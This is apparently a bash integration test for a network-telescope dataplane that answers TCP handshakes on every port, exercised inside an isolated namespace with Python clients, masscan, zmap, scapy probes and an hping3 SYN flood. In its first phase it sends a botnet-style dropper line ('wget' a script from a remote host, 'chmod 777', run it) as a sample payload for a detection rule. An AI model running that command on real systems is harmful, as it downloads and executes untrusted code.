#!/bin/bash
# SPDX-License-Identifier: BSD-3-Clause
# dp live test of the all-port handshake responder (issue 13, docs/scan.md "Responder"):
# obscura-dp on net_af_packet on one end of a veth pair inside a private network
# namespace, real clients on the other end, and the drained exchange (xchg_dump) and a
# capture of the client side (tcpdump, read back with tshark) checked:
#   1. the kernel's TCP stack (Python sockets, curl) connects to every address of H on
#      several ports, half of H reached through the dataplane's ARP answers, half through
#      a "router" with a static ARP entry, and sends a request: every connect completes,
#      the request's first bytes are kept and matched by a shipped rule, then RST;
#   2. masscan and zmap scan H: they see every port open (SYN-ACK), answer RST, and add
#      SYN-ACKs but no session;
#   3. what must not be answered is not: SYN to the telescope outside H, SYN+ACK, SYN+FIN,
#      SYN+RST, broadcast / multicast / own-address sources, an excluded source; forged ACKs
#      with wrong cookies count as invalid, never as sessions;
#   4. every SYN-ACK on the wire: IPv4 and TCP checksums right, MSS option, ack = SYN's
#      seq + 1, source in H, destination the SYN's source;
#   5. a SYN flood with random sources (hping3 --flood --rand-source): the dataplane's RSS
#      stays flat and its transmissions stay under max_pps;
#   6. --replay of the client-side capture with the responder configured transmits
#      nothing and says so in the exchange header (OBX_RESP_F_TX_OFF).
# Traffic never leaves the namespace.  A kernel without netns/veth, or a missing client
# program, is a FAIL, not a skip (deploy/setup installs them).
#
# usage: responder_live.sh OBSCURA_DP XCHG_DUMP SRCDIR
set -u
DP=$1 DUMP=$2 SRC=$3
ROOT=$(cd "$SRC/../.." && pwd)
PY=/usr/bin/python3
NS=ns-resp-test-$$
IFA=rsa$$ IFB=rsb$$            # < 16 chars
T=$(mktemp -d /tmp/obs-resp-test.XXXXXX)
PREFIX=obs-resp-test-$$
DPPID= DUMPPID= TCPDPID= SYNAPID=
MAXPPS=400
cleanup() {
	for p in $DPPID $DUMPPID $TCPDPID $SYNAPID; do kill -KILL "$p" 2>/dev/null; done
	ip netns del "$NS" 2>/dev/null
	rm -rf "$T" "/var/run/dpdk/$PREFIX"* 2>/dev/null
}
trap cleanup EXIT
trap "exit 1" INT TERM   # a timeout (meson, timeout(1)) still runs cleanup: no namespace left
fail() { echo "FAIL: $*"; for f in "$T"/*.log; do [ -f "$f" ] && { echo "--- $f"; tail -25 "$f"; }; done; exit 1; }
nsx() { ip netns exec "$NS" "$@"; }

[ "$(id -u)" -eq 0 ] || fail "needs root (network namespace, veth)"
$PY -c 'import scapy' 2>/dev/null || fail "$PY has no scapy (apt-get install python3-scapy)"
for p in masscan zmap hping3 curl tcpdump tshark; do
	command -v $p >/dev/null || fail "$p missing (deploy/setup installs it)"
done
ip netns add "$NS" || fail "kernel or ip(8) without network namespaces: 'ip netns add' failed"
nsx sysctl -qw net.ipv6.conf.all.disable_ipv6=1 || fail "cannot disable IPv6 in the namespace"
nsx sysctl -qw net.ipv6.conf.default.disable_ipv6=1
nsx ip link add "$IFA" type veth peer name "$IFB" || fail "kernel without veth"
nsx ip link set "$IFA" up && nsx ip link set "$IFB" up || fail "link up"
# the client side: its own address, H on-link (ARP answered by the dataplane) and H
# through a router whose address has a static ARP entry (the dataplane's MAC)
CLI=192.0.2.10 MASSCAN_IP=192.0.2.11 EXCL=192.0.2.99 GW=192.0.2.1
MACA=$(cat /sys/class/net/"$IFA"/address 2>/dev/null || nsx cat /sys/class/net/"$IFA"/address)
MACB=$(nsx cat /sys/class/net/"$IFB"/address)
nsx ip addr add $CLI/24 dev "$IFB" || fail "addr"
nsx ip route add 198.18.1.0/29 dev "$IFB" || fail "route H (on-link)"
nsx ip route add 198.18.17.0/30 via $GW dev "$IFB" || fail "route H (via the router)"
nsx ip neigh replace $GW lladdr "$MACA" dev "$IFB" nud permanent || fail "static ARP"
H_ARP="198.18.1.0 198.18.1.1 198.18.1.2 198.18.1.3 198.18.1.4 198.18.1.5 198.18.1.6 198.18.1.7"
H_GW="198.18.17.0 198.18.17.1 198.18.17.2 198.18.17.3"

head -c 32 /dev/urandom > "$T/secret" && chmod 600 "$T/secret"
echo "$EXCL/32" > "$T/exclude.txt"
. "$SRC/lib.sh"   # dp_conf
conf() {   # conf FILE EXCHANGE PORTS
	dp_conf "$1" "$PREFIX-$(basename "$1" .yaml)" 1 "$2" 200 1 "$3"
	cat >> "$1" <<EOC
  resp_capacity: 4096
rules:
  files: [$ROOT/conf/rules/obscura.rules]
exclude:
  files: [$T/exclude.txt]
responder:
  prefixes: [198.18.1.0/29, 198.18.17.0/30]
  payload_bytes: 64
  max_pps: $MAXPPS
  secret_file: $T/secret
EOC
}
conf "$T/live.yaml" "$T/live.x" "  ports:
    - name: veth
      device: \"net_af_packet0,iface=$IFA\""
conf "$T/replay.yaml" "$T/replay.x" "  ports: []"
"$DP" -n -c "$T/live.yaml" > "$T/n.log" 2>&1 || fail "obscura-dp -n refuses the config"

"$DUMP" --timeout 300 --no-sources "$T/live.x" > "$T/live.json" 2> "$T/live.dump.log" &
DUMPPID=$!
# ip netns exec execs obscura-dp: $! is its pid (a shell function here would leave a
# subshell pid, and SIGTERM would orphan the dataplane)
ip netns exec "$NS" "$DP" -c "$T/live.yaml" > "$T/live.dp.log" 2>&1 &
DPPID=$!
for i in $(seq 1 300); do
	grep -q "running:" "$T/live.dp.log" && break
	kill -0 $DPPID 2>/dev/null || fail "obscura-dp died at start"
	sleep 0.1
done
grep -q "running:" "$T/live.dp.log" || fail "obscura-dp not running after 30 s"
# every frame of phases 1-4 on the client side; SYN-ACKs only during the flood
# (background jobs of a script ignore SIGINT: tcpdump is run by ip netns exec itself, so
# $! is tcpdump, and stopped with SIGTERM)
ip netns exec "$NS" tcpdump -i "$IFB" -nn -s 0 -U -w "$T/client.pcap" > "$T/tcpdump.log" 2>&1 &
TCPDPID=$!
sleep 1

echo "# 1. the kernel's TCP stack: every address of H, ports 80 2323 40000, a request each"
nsx timeout 90 $PY - "$T/clients.json" $H_ARP $H_GW > "$T/clients.log" 2>&1 <<'EOP' || fail "kernel clients"
import json, socket, sys, time
out, addrs = sys.argv[1], sys.argv[2:]
REQ = b"cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh\r\n"
res = []
for a in addrs:
    for p in (80, 2323, 40000):
        r = {"dst": a, "dport": p}
        s = socket.socket()
        s.settimeout(5)
        try:
            s.connect((a, p))
            r["connected"] = True
            r["sport"] = s.getsockname()[1]
            s.sendall(REQ)
            try:
                d = s.recv(100)
                r["end"] = "eof" if d == b"" else "data"
            except ConnectionResetError:
                r["end"] = "rst"
            except socket.timeout:
                r["end"] = "timeout"
        except Exception as e:
            r["connected"] = False
            r["error"] = repr(e)
        s.close()
        res.append(r)
        time.sleep(0.02)
json.dump({"req_hex": REQ.hex(), "conns": res}, open(out, "w"))
bad = [r for r in res if not r["connected"] or r.get("end") != "rst"]
print(len(res), "connections,", len(bad), "bad:", bad)
sys.exit(1 if bad else 0)
EOP
cat "$T/clients.log"
# curl: the handshake completes, the request is sent, the answer is a reset (exit 56)
nsx curl -s -m 5 -o /dev/null "http://198.18.1.3:8080/?q=wget%20x;chmod%20x" ; rc=$?
[ $rc -eq 56 ] || fail "curl exit $rc, want 56 (connection reset after the handshake)"

echo "# 2. masscan and zmap"
# masscan 1.3.2 can keep "waiting" past --wait in a namespace (its receive thread blocks
# on a quiet link, and one SIGINT only starts its own wait): SIGINT after 15 s, SIGKILL
# 5 s later; what it found is checked from its status line and, below, on the wire
nsx timeout -s INT -k 5 15 masscan 198.18.1.0/29 -p 21,5900 --rate 200 -e "$IFB" \
	--source-ip $MASSCAN_IP --router-mac "$MACA" --wait 2 -oL "$T/masscan.txt" \
	> "$T/masscan.out" 2>&1; rc=$?
tr '\r' '\n' < "$T/masscan.out" | grep -v '^rate:' > "$T/masscan.log"
nm=$(tr '\r' '\n' < "$T/masscan.out" | sed -n 's/.*found=\([0-9]*\).*/\1/p' | tail -1)
echo "masscan exit $rc, found=${nm:-?}"
case $rc in 0|124|130|137) ;; *) fail "masscan exit $rc" ;; esac   # 137: the SIGKILL above
[ "${nm:-0}" -eq 16 ] || fail "masscan found ${nm:-0} open ports, want 16 (8 addresses x 2 ports)"
: > "$T/zmap-bl.txt"
nsx timeout 60 zmap -p 8443 -i "$IFB" -G "$MACA" -S $CLI -r 200 -b "$T/zmap-bl.txt" -c 2 -q \
	-o "$T/zmap.txt" 198.18.17.0/30 > "$T/zmap.log" 2>&1 || fail "zmap"
nz=$(grep -c '^198\.18\.17\.' "$T/zmap.txt")
[ "$nz" -eq 4 ] || fail "zmap found $nz open, want 4"

echo "# 3. what is not answered; forged ACKs"
nsx timeout 60 $PY - "$IFB" "$MACA" $CLI $EXCL > "$T/probes.log" 2>&1 <<'EOP' || fail "probes"
import random, sys, time
from scapy.all import Ether, IP, TCP, sendp
ifb, maca, cli, excl = sys.argv[1:5]
def syn(src, dst, flags="S", dport=80, **kw):
    return Ether(dst=maca) / IP(src=src, dst=dst) / TCP(sport=random.randint(1024, 65535),
                                                        dport=dport, flags=flags,
                                                        seq=random.getrandbits(32), **kw)
pk = []
pk.append(syn(cli, "198.18.2.1"))             # telescope, outside H
pk.append(syn(cli, "198.18.20.1"))            # other sensor, outside H
pk.append(syn(cli, "198.18.1.1", "SA"))       # not a clean SYN
pk.append(syn(cli, "198.18.1.1", "SF"))
pk.append(syn(cli, "198.18.1.1", "SR"))
pk.append(syn("255.255.255.255", "198.18.1.1"))   # broadcast source
pk.append(syn("224.0.0.5", "198.18.1.1"))          # multicast source
pk.append(syn("198.18.1.2", "198.18.1.1"))         # our own address
pk.append(syn("127.0.0.1", "198.18.1.1"))          # martian
pk.append(syn("0.0.0.0", "198.18.1.1"))
pk.append(syn(excl, "198.18.1.1"))                 # excluded source
pk.append(Ether(dst="ff:ff:ff:ff:ff:ff") / IP(src=cli, dst="198.18.1.255") /
          TCP(dport=80, flags="S"))                # outside H (broadcast of a /24)
# forged ACKs and data segments with wrong cookies, to H
forged = [syn(cli, "198.18.1.%d" % (i % 8), "A", dport=80 + i, ack=random.getrandbits(32))
          for i in range(150)]
forged += [syn(cli, "198.18.17.%d" % (i % 4), "PA", dport=80 + i, ack=random.getrandbits(32))
           / b"GET / HTTP/1.0\r\n\r\n" for i in range(50)]
for p in pk + forged:
    sendp(p, iface=ifb, verbose=0)
    time.sleep(0.003)
print("not-answered probes", len(pk), "forged", len(forged))
EOP
sleep 1
kill -TERM $TCPDPID; wait $TCPDPID; TCPDPID=
ip netns exec "$NS" tcpdump -i "$IFB" -nn -U -w "$T/flood-synack.pcap" \
	'tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack)' > "$T/tcpdump2.log" 2>&1 &
TCPDPID=$!
sleep 0.5

echo "# 5. SYN flood, random sources, 3 s"
rss() { awk '/^VmRSS/ { print $2 }' /proc/$DPPID/status; }
rss0=$(rss)
nsx timeout 3 hping3 --flood --rand-source -S -p 80 -I "$IFB" 198.18.1.1 > "$T/hping.log" 2>&1 &
HP=$!
sleep 1; rss1=$(rss); sleep 1.8; rss2=$(rss)
wait $HP
sleep 1
kill -TERM $TCPDPID; wait $TCPDPID; TCPDPID=
echo "RSS kB: before $rss0, flood 1 s $rss1, flood 2.8 s $rss2"
[ $((rss2 - rss1)) -le 1024 ] || fail "RSS grew by $((rss2 - rss1)) kB during the flood"
nflood=$(tcpdump -r "$T/flood-synack.pcap" -nn 2>/dev/null | wc -l)
echo "SYN-ACKs on the wire during the flood: $nflood (max_pps $MAXPPS, ~4 s of capture)"
[ "$nflood" -le $((MAXPPS * 5)) ] || fail "$nflood SYN-ACKs in ~4 s: max_pps $MAXPPS not kept"
[ "$nflood" -gt 0 ] || fail "no SYN-ACK at all during the flood"

kill -TERM $DPPID
wait $DPPID; rc=$?; DPPID=
[ $rc -eq 0 ] || fail "obscura-dp exit $rc after SIGTERM"
wait $DUMPPID; rc=$?; DUMPPID=
[ $rc -eq 0 ] || fail "xchg_dump exit $rc"

echo "# 4. every SYN-ACK on the wire, and the exchange"
tshark -r "$T/client.pcap" -o tcp.check_checksum:TRUE -o ip.check_checksum:TRUE \
	-o tcp.relative_sequence_numbers:FALSE -T fields -E separator=, \
	-e frame.number -e eth.src -e eth.dst -e ip.src -e ip.dst -e tcp.srcport -e tcp.dstport \
	-e tcp.flags -e tcp.seq -e tcp.ack -e tcp.options.mss_val -e ip.checksum.status \
	-e tcp.checksum.status -e tcp.len -e arp.opcode -e arp.src.proto_ipv4 \
	-e arp.dst.proto_ipv4 -e arp.src.hw_mac \
	> "$T/client.csv" 2> "$T/tshark.log" || fail "tshark"
$PY - "$T/client.csv" "$T/live.json" "$T/clients.json" "$MACA" "$MACB" <<'EOP' || fail "checks"
import ipaddress, json, sys
csv, live, clients, maca, macb = sys.argv[1:6]
H = [ipaddress.ip_network(n) for n in ("198.18.1.0/29", "198.18.17.0/30")]
inH = lambda a: any(ipaddress.ip_address(a) in n for n in H)
rows = [l.rstrip("\n").split(",") for l in open(csv)]
syns, synacks, arp_replies, bad = {}, [], [], []
for r in rows:
    (no, esrc, edst, src, dst, sp, dp, fl, seq, ack, mss, ipck, tcpck, tlen,
     arpop, arpsrc, arpdst, arpmac) = r
    if arpop == "2":
        arp_replies.append((arpsrc, arpmac))
        continue
    if not fl:
        continue
    f = int(fl, 16)
    if f & 0x17 == 0x02:                 # a clean SYN (no ACK, RST, FIN)
        k = (src, dst, sp, dp)
        syns.setdefault(k, [int(seq), 0])[1] += 1
    elif f & 0x12 == 0x12 and esrc == maca:
        synacks.append(r)
n_ok = 0
for r in synacks:
    no, esrc, edst, src, dst, sp, dp, fl, seq, ack, mss, ipck, tcpck = r[:13]
    why = []
    if not inH(src): why.append("source outside H")
    if ipck != "1": why.append("IPv4 checksum status %s" % ipck)     # 1 = good (0 bad, 2 unverified)
    if tcpck != "1": why.append("TCP checksum status %s" % tcpck)
    if not mss: why.append("no MSS option")
    k = (dst, src, dp, sp)
    if k not in syns: why.append("no SYN it answers")
    elif int(ack) != (syns[k][0] + 1) % 2**32: why.append("ack != seq + 1")
    if edst != macb: why.append("to MAC %s" % edst)
    if dst in ("255.255.255.255", "224.0.0.5", "198.18.1.2", "127.0.0.1", "0.0.0.0",
               "192.0.2.99"):
        why.append("answered a source it must not")
    if why: bad.append((no, why))
    else: n_ok += 1
print("SYN-ACKs on the client side:", len(synacks), "good:", n_ok, "bad:", bad[:5])
assert not bad, bad
# every clean SYN to H from the legitimate senders got exactly one SYN-ACK (a kernel
# retransmission of a SYN is one more SYN and gets its own)
answered = {}
for r in synacks:
    k = (r[4], r[3], r[6], r[5])
    answered[k] = answered.get(k, 0) + 1
missing = [k for k in syns if inH(k[1]) and k[0] in ("192.0.2.10", "192.0.2.11")
           and answered.get(k, 0) == 0]
dup = [k for k, n in answered.items() if k in syns and n > syns[k][1]]
assert not missing, ("SYNs to H not answered", missing[:5])
assert not dup, ("more SYN-ACKs than SYNs", dup[:5])
# masscan (own stack, 192.0.2.11) and zmap (the kernel of 192.0.2.10 answers the
# unsolicited SYN-ACK) close every handshake they were offered with an RST
def rsts(src, ports):
    return {(r[4], r[6]) for r in rows if r[7] and int(r[7], 16) & 0x04 and r[3] == src
            and inH(r[4]) and int(r[6]) in ports}
sa = lambda dst, ports: {(r[3], r[5]) for r in synacks if r[4] == dst and int(r[5]) in ports}
ms, mr = sa("192.0.2.11", (21, 5900)), rsts("192.0.2.11", (21, 5900))
zs, zr = sa("192.0.2.10", (8443,)), rsts("192.0.2.10", (8443,))
print("masscan: SYN-ACKs from", len(ms), "(addr, port), RSTs to", len(mr),
      "; zmap: SYN-ACKs", len(zs), "RSTs", len(zr))
assert len(ms) == 16 and mr == ms, ("masscan", sorted(ms ^ mr))
assert len(zs) == 4 and zr == zs, ("zmap", sorted(zs ^ zr))
arp_h = {a for a, m in arp_replies if inH(a) and m == maca}
print("ARP replies for H:", sorted(arp_h))
assert {"198.18.1.%d" % i for i in range(8)} <= arp_h, "ARP not answered for every on-link address of H"

g = json.load(open(live))
R, c = g["responder"], g["counters"]
print("responder:", {k: v for k, v in R.items() if k != "keys"})
assert R["flags"] & 1 and not R["flags"] & 2, R["flags"]          # ON, transmitting
assert R["n_addrs"] == 12 and R["payload_bytes"] == 64 and R["max_pps"] > 0, R
assert R["resp_epochs"] > 0 and R["bad_records"] == 0 and R["keys_dropped"] == 0, R
cl = json.load(open(clients))
req = bytes.fromhex(cl["req_hex"])
want = {("192.0.2.10", x["dst"], x["dport"]) for x in cl["conns"]} | {("192.0.2.10", "198.18.1.3", 8080)}
got = {(k["src"], k["dst"], k["dport"]): k for k in R["keys"]}
assert set(got) == want, ("session keys", sorted(set(got) ^ want)[:6])
for k in want:
    rec = got[k]
    # one handshake each; when its ACK and its data segment fall into two epochs the
    # dataplane writes a record of count 1 in each (docs/scan.md: counted twice), never
    # more than one count per record
    assert rec["count"] == rec["records"] <= 2, (k, rec)
    if k[2] == 8080:
        continue           # curl's request: kept, no rule asked of it here
    assert rec["flags"] == 3 and rec["sid"] == 1000503, (k, rec)
    assert rec["seg_len"] == len(req) and bytes.fromhex(rec["payload"]) == req[:64], (k, rec)
split = sum(got[k]["count"] for k in want) - len(want)
print("sessions split over two epochs (counted twice):", split)
assert R["sessions"] == len(want) + split, (R["sessions"], len(want), split)
assert R["payloads"] == len(want), (R["payloads"], len(want))
assert R["rsts"] >= len(want), R
# forged: 200 segments with wrong cookies, every one invalid; the clients' own ACK and
# data segments valid (2 a connection), masscan's and zmap's RSTs neither
assert R["cookie_bad"] >= 200, R["cookie_bad"]
assert R["cookie_ok"] >= len(want), R["cookie_ok"]
assert R["synacks"] >= len(want) + 16 + 4, R["synacks"]
assert R["capped"] > 0, "the flood was never capped"
assert R["tx_refused"] >= 0
print("sessions", R["sessions"], "synacks", R["synacks"], "capped", R["capped"],
      "cookie_bad", R["cookie_bad"], "arps", R["arps"])
EOP

echo "# 6. replay of the client capture with the responder configured: nothing transmitted"
"$DUMP" --timeout 120 --no-sources "$T/replay.x" > "$T/replay.json" 2> "$T/replay.dump.log" &
DUMPPID=$!
timeout 120 "$DP" -c "$T/replay.yaml" --replay "$T/client.pcap" --drain-timeout 30 \
	> "$T/replay.dp.log" 2>&1 || fail "replay exit $?"
wait $DUMPPID || fail "replay drain"
DUMPPID=
$PY - "$T/replay.json" "$T/client.pcap" <<'EOP' || fail "replay checks"
import json, sys
from scapy.all import rdpcap
g = json.load(open(sys.argv[1]))
R, c = g["responder"], g["counters"]
n = len(rdpcap(sys.argv[2]))
assert c["rx_packets"] == n, (c["rx_packets"], n)
assert R["flags"] & 3 == 3, ("replay: ON and TX_OFF", R["flags"])
for k in ("synacks", "rsts", "arps", "tx_refused", "capped"):
    assert R[k] == 0, (k, R[k])
assert R["resp_epochs"] == 0, R
print("replay:", n, "frames, nothing transmitted, flags", R["flags"])
EOP
echo PASS
